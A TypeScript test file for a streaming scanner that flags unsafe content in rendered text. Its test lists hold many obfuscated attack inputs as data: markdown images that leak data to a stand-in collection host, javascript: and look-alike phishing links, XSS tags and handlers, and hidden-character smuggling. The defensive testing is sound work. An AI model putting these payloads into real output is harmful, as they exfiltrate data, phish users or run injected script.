import * as fc from "fast-check";
import { expect, test } from "vitest";
import { settingsOf } from "./testing/settings-of.js";
import type { ContentKind } from "./finding.js";
import { TextScanner } from "./text-scanner.js";

const ALL = settingsOf();

/** The finding, and the number of characters passed before it. */
function scan(pieces: readonly string[], settings = ALL): [ContentKind | undefined, string] {
  const scanner = new TextScanner(settings);
  let passed = "";
  for (const piece of pieces) {
    const found = scanner.push(piece);
    if (found !== undefined) return [found.kind, passed];
    passed += piece;
  }
  return [undefined, passed];
}

const FENCE = "```";
const FOUND: readonly (readonly [ContentKind, string])[] = [
  ["images", "![logo](https://collect.example/p.png?d=4417)"],
  ["images", "![](//collect.example/p.png)"],
  ["images", "![a](/\\collect.example)"],
  ["images", "![a](/&#47;collect.example)"],
  ["images", "![a](<https://collect.example/a b>)"],
  ["images", "![a](\n https://collect.example/)"],
  ["images", "![a](ht&#116;ps://collect.example)"],
  ["images", "![a](https\\://collect.example)"],
  ["images", "![a [b] c](https://collect.example)"],
  ["images", "![a [b](x.png) c](https://collect.example)"],
  ["images", "![a `]` c](https://collect.example)"],
  ["images", "![a `](/x)` b](https://collect.example)"],
  ["images", "![``](/x)``](https://collect.example)"],
  ["images", "![`](`](https://collect.example)"],
  ["images", "![a <https://h/](/x)> b](https://collect.example)"],
  ["images", '![a [b](/y "](/x)") c](https://collect.example)'],
  ["images", "![a [b](/y](/x)) c](https://collect.example)"],
  ["images", "![a [b](<](/x)>) c](https://collect.example)"],
  ["images", '![a ![b](/i "](/x)") c](https://collect.example)'],
  ["images", "[![badge](http://collect.example/1)](/docs)"],
  ["images", "vec![a](HTTPS://collect.example)"],
  ["images", "![a][1]\n\nand much later\n\n[1]: https://collect.example/?d=1"],
  ["images", "![a]\n\n[a]: //collect.example/"],
  ["images", "![a](data:image/svg+xml,<svg/>)"],
  ["images", "![a](\u3000//collect.example)"],
  ["images", "![a](\uFEFF//collect.example)"],
  ["images", `[a\n${FENCE}\nb]: /x\n![a](//collect.example)`],
  ["images", `$$\n${FENCE}\n$$\n![a](//collect.example)`],
  ["images", `${FENCE}\ncode\n${FENCE}\n![a](//collect.example)`],
  ["links", "[Reset](javascript:fetch('//x'))"],
  ["links", "[Reset]( JaVaScRiPt:x)"],
  ["links", "[Reset](<java\tscript:x>)"],
  ["links", "[Reset](java&#115;cript:x)"],
  ["links", "[Reset](javascript&colon;x)"],
  ["links", "[Reset](data:text/html,x)"],
  ["links", "[Reset](ms-msdt:x)"],
  ["links", "[Reset][1]\n\n[1]: javascript:x"],
  ["links", "<javascript:x>"],
  ["links", "a<!--<javascript:x>"],
  ["links", "[a]:b<javascript:x>"],
  ["links", "[a]\n\n[a]: java&#115;cript:x"],
  ["links", "[a]\n\n[a]: javascript\\:x"],
  ["links", "[bank.example](https://bank.example@evil.example/login)"],
  ["links", "see HTTPS://bank.example:secret@evil.example"],
  ["links", "https://bank.example&#64;evil.example/"],
  ["links", "[bank.example](//bank.example@evil.example/login)"],
  ["links", "[bank.example](http:bank.example@evil.example/login)"],
  ["links", "[bank.example](https:///bank.example\\@evil.example/login)"],
  ["links", "http://[http://bank.example@evil.example"],
  ["links", "[a]\n\n[a]:\u00A0javascript:x"],
  ["markup", '<img src=x onerror="x">'],
  ["markup", "<IMG/src=x>"],
  ["markup", "<svg onload=x>"],
  ["markup", "<script>x</script>"],
  ["markup", "<b onmouseover=x>"],
  ["markup", "<x-y style='background:url(//x)'>"],
  ["markup", '<a href="https://x.example">'],
  ["markup", '<a href="javascript:x">'],
  ["markup", '`<a href="javascript:x">`'],
  ["markup", "`<a\nhref=javascript:x>`"],
  ["markup", '<a href="&#106;avascript:x">'],
  ["markup", '<a class="x" href="https://x.example">'],
  ["markup", "<img src='ht\ntps://x.example'>"],
  ["markup", "<p style='background:u\\72l(//x)'>"],
  ["images", `-    ${FENCE}\n![a](https://collect.example/)`],
  ["images", `[a]: /x\n\n    text ![a](https://collect.example/)`],
  ["markup", `- ${FENCE}\n2. <img src=x>\n${FENCE}`],
  ["markup", "$ `$` `<div class=x>` $"],
  ["markup", "<div class=x>"],
  ["markup", "`<div class=x>text`"],
  ["markup", "`<div class=x>``"],
  ["markup", "`<div class=x>\n`"],
  ["markup", "$`$ `<div class=x>`"],
  ["markup", "`<script>alert(1)</script>`"],
  ["markup", "`<img src=//x>`"],
  ["markup", "`a` ` b ` <script> `text"],
  ["markup", "<svg><path d=x>"],
  ["markup", "<kbd><link rel=stylesheet www.x.example"],
  ["markup", "<style><b>*{}"],
  ["links", "`<a href='//bank.example@evil.example'>`"],
  ["markup", '<form action="https://x.example">'],
  ["markup", "<p onclick=x"],
  ["markup", "<p\nonclick =x"],
  ["markup", "x <p <b/onclick=x"],
  ["markup", "<p a='<b' onclick=x>"],
  ["markup", '<p a="b"onclick=x'],
  ["markup", "<input <b type=password"],
  ["markup", "<dialog open>"],
  ["markup", "<bdo>"],
  ["markup", '<p dir="rtl"><BDO dir=ltr>x</bdo>'],
  ["markup", "x <p <script"],
  ["markup", "a\n<Script"],
  ["markup", `${FENCE}\ncode\n${FENCE}\n<img src=x>`],
  ["markup", `<p>\n${FENCE}\n<img src=x>`],
  ["markup", `- a\n\n  ${FENCE}\nout again\n<img src=x>`],
  ["markup", ` ${FENCE}\n${FENCE}\n<img src=x>`],
  ["markup", `- ${FENCE}\n- x\n${FENCE}\n<img src=x>`],
  ["markup", `[a]: /x '\n${FENCE}\n[b]: /x '\n<img src=x>`],
  ["markup", `\\<div\n<div\n${FENCE}\n<b onclick=x>`],
  ["markup", `> ${FENCE}\n<img src=x>`],
  ["markup", `[a\n\n${FENCE}\nb]: /x\n<img src=x>\n${FENCE}\n`],
  ["markup", `\uFEFF<v>\n${FENCE}\n<img src=x>`],
  ["markup", `${FENCE} a \` b\n<img src=x>`],
  ["markup", `${FENCE}\rcode\r${FENCE}\r<img src=x>`],
  ["hidden", "all fine \u001B[2J"],
  ["hidden", "a\u0000b"],
  ["hidden", "a\u009Bb"],
  ["hidden", "pay \u202E0001\u202C to Eve"],
  ["hidden", "recipe \u{E0063}\u{E0061}\u{E006C}\u{E006C}\u{E0020}\u{E0073}\u{E0065}\u{E006E}"],
  ["hidden", `smile 😀${"\u{E0100}\u{FE01}".repeat(4)}`],
  ["hidden", `zero${"\u200B\u200C".repeat(4)}width`],
];

test.each(FOUND)(
  "%s: %j is found, whole and in single characters, before it is out",
  (kind, text) => {
    expect(scan([text])).toEqual([kind, ""]);
    const [found, passed] = scan(text.split(""));
    expect(found).toBe(kind);
    expect(passed.length).toBeLessThan(text.length);
    expect(passed).not.toMatch(/collect\.example|evil\.example/);
  },
);

const FINE: readonly string[] = [
  "Here is [the guide](https://docs.example/a?b=c&d=e#f) and https://docs.example/@team/x.",
  "Write to [us](mailto:help@docs.example) or [call](tel:+491234).",
  "[1]: https://docs.example/one\n[2]: https://docs.example/two",
  "![chart](/charts/one.png) and ![two](charts/two.png?x=1&y=2), see [docs](https://docs.example)",
  "![logo](/logo.png) runs `a < b`, see [docs](https://docs.example)",
  "![dot](data:image/png;base64,AAAA)",
  "[Owner]: R&D, [Note]: tip: read it",
  "let v = vec![1, 2];\n\nMore in [the book](https://docs.example).",
  "if a < b && c > d, then x <= y; List<String>, Map<K, V>, <your-name>, <T>",
  "`<a href='https://x.example'>x</a>`, `<img src=/a.png alt=b>`, `<td colspan='2'>x</td>`, <td colspan='2'>",
  "line<br>break, H<sub>2</sub>O, <details><summary>more</summary>text</details>, the `<img>` element",
  `${FENCE}html\n<img src="x"><script>go()</script>\n${FENCE}\ndone`,
  `${FENCE}c++ 11\n<img src="x">\n${FENCE}\n`,
  `~~~\n<svg onload=x>\n${FENCE}\n<svg onload=x>\n~~~\n`,
  `${FENCE}cpp\nauto f = [](std::string s) { return url + "http://a:b@c"; };\n${FENCE}\n`,
  `Write:\n${FENCE}markdown\n![alt](https://docs.example/x.png)\n${FENCE}\n`,
  `See x[1]: the list\n\n${FENCE}html\n<a href="x">y</a>\n${FENCE}\n`,
  "let a = [Int](repeating: 0, count: 3); handlers[i](event: Event); [10:30](12:45)",
  "Replace <input file> and <link text>, <form id> or <select one>; 5 <a and b",
  "\u202Babc שלום\u202C",
  "tabs\tand\r\nlines",
  "🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F} 👩‍👩‍👧‍👦 ❤️ می‌خواهم",
  "\u2068name\u2069 wrote; שלום \u200Fabc",
  "postgres://user:word@db/main",
  "我们 12:30 [见面](https://docs.example/路径)",
];

test.each(FINE)("ordinary text passes: %j", (text) => {
  expect(scan([text])).toEqual([undefined, text]);
  expect(scan(text.split(""))).toEqual([undefined, text]);
});

test("what is found does not depend on how the text is cut", () => {
  const piece = fc.constantFrom(
    ..."![]()<>:/\\&@`~\n \t!a1h".split(""),
    "https://",
    "![",
    "](",
    "]:",
    "<img ",
    `\n${FENCE}\n`,
    "\u200B",
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
      expect(scan(pieces)[0]).toBe(scan([pieces.join("")])[0]);
    }),
    { numRuns: 500 },
  );
});

test("images of a host on the list pass, and nothing but the beginning of another host's name does", () => {
  const settings = { ...ALL, imageHosts: ["img.example", "cdn.example:8443"] };
  const passes = (text: string): boolean => scan(text.split(""), settings)[0] === undefined;
  expect(
    passes(
      "![a](https://img.example/a.png?x=1) ![b](//IMG.example/b) ![c](http://cdn.example:8443/)",
    ),
  ).toBe(true);
  expect(scan("![a](https://images.evil.example/4417)".split(""), settings)).toEqual([
    "images",
    "![a](https://im",
  ]);
  for (const text of [
    "![a](https://img.example.evil.example/)",
    "![a](https://img.example@evil.example/)",
    "![a](https:/img.example/)",
    "![a](https:\\\\evil.example/)",
    "![a][b]\n\n[b]: https://evil.example",
  ]) {
    expect(passes(text)).toBe(false);
  }
});

test("an image by a reference that came before it is found at its first bracket", () => {
  const [found, passed] = scan("[1]: https://collect.example/?d=1\n\n![a][1]".split(""));
  expect([found, passed.at(-1)]).toEqual(["images", "!"]);
});

test("a message at its longest passes, one character more does not, dripped too", () => {
  const settings = { ...ALL, maxCharacters: 10 };
  expect(scan(["1234567890"], settings)[0]).toBeUndefined();
  expect(scan(["12345678901"], settings)[0]).toBe("max_characters");
  expect(scan("12345678901".split(""), settings)).toEqual(["max_characters", "1234567890"]);
});

test("a word that is never shown is found where it ends, however it is cut", () => {
  const settings = { ...ALL, words: ["CANARY-1", "marker"] };
  expect(scan(["see CANARY-1."], settings)[0]).toBe("words");
  expect(scan("see CANARY-1.".split(""), settings)).toEqual(["words", "see CANARY-"]);
  expect(scan(["mar", "ke", "r"], settings)[0]).toBe("words");
  expect(scan(["CANARY-2 mark er"], settings)[0]).toBeUndefined();
});

test("each kind can be left alone", () => {
  const none = { ...ALL, images: false, links: false, markup: false, hidden: false };
  for (const [, text] of FOUND) expect(scan([text], none)[0]).toBeUndefined();
  const imagesOnly = { ...none, images: true };
  expect(scan(["[a](javascript:x) ![a](//x)"], imagesOnly)[0]).toBe("images");
});

test("a long text that opens everything and closes nothing is read in one pass", () => {
  const opens = "![[(<a `~\\&".repeat(50_000);
  expect(scan([opens], { ...ALL, maxCharacters: 10_000_000 })[0]).not.toBe("max_characters");
});

test("a vertical tab or a form feed, white space to some renderers only, makes nothing code", () => {
  const settings = { ...ALL, hidden: false };
  const image = "<img src=//collect.example>";
  for (const odd of ["\v", "\f"]) {
    for (const text of [
      `a\n\n${odd}${FENCE}\n${image}\n`,
      `${FENCE}\na\n${odd}${FENCE}\n${FENCE}\n${image}\n`,
      `${FENCE}\na\n${FENCE}${odd}\n${FENCE}\n${image}\n`,
      `a\n${odd}\n    ${image}`,
      `a\n\n${odd}   ${image}`,
      `-${odd}${FENCE}\n  ${image}\n`,
      `>${odd}${FENCE}\n>${odd}${image}\n`,
      `<div>\n${odd}\n${FENCE}\n${image}\n`,
      `<div a=${odd}"><img src=//collect.example>"`,
    ]) {
      expect(scan([text], settings)[0], JSON.stringify(text)).toBe("markup");
      expect(scan(text.split(""), settings)[0], JSON.stringify(text)).toBe("markup");
    }
  }
});

test("white space of other scripts makes no tag harmless: renderers pass it on, and browsers read what follows", () => {
  for (const odd of ["\u00A0", "\u1680", "\u2003", "\u2028", "\u202F", "\u3000", "\uFEFF", "\v"]) {
    for (const tag of [
      `<b${odd}x onclick=x()>`,
      `<b ${odd}x onclick=x()>`,
      `<b x${odd}=1 onclick=x()>`,
      `<b x=1${odd}y=2 onclick=x()>`,
      `<b x=1${odd}y='2' onclick=x()>`,
      `<b x='1'${odd}y onclick=x()>`,
      `<b${odd}x style='background:url(//collect.example)'>`,
      `<b${odd}x class=cover>text`,
      `<b x=${odd}'><img src=//collect.example>'>`,
    ]) {
      const found = scan([`a ${tag}`], { ...ALL, hidden: false })[0];
      expect(found, JSON.stringify(tag)).toBe("markup");
    }
    const block = `<pre${odd}x>\n\n${FENCE}\n<img src=//collect.example>`;
    expect(scan([block], { ...ALL, hidden: false })[0], JSON.stringify(block)).toBe("markup");
  }
  for (const text of [
    "a <\u00A0b and c >\u00A0d",
    "1\u00A0< 2 and x\u00A0= 'y'",
    "List<\u00A0T>",
  ]) {
    expect(scan([text])[0]).toBeUndefined();
  }
});
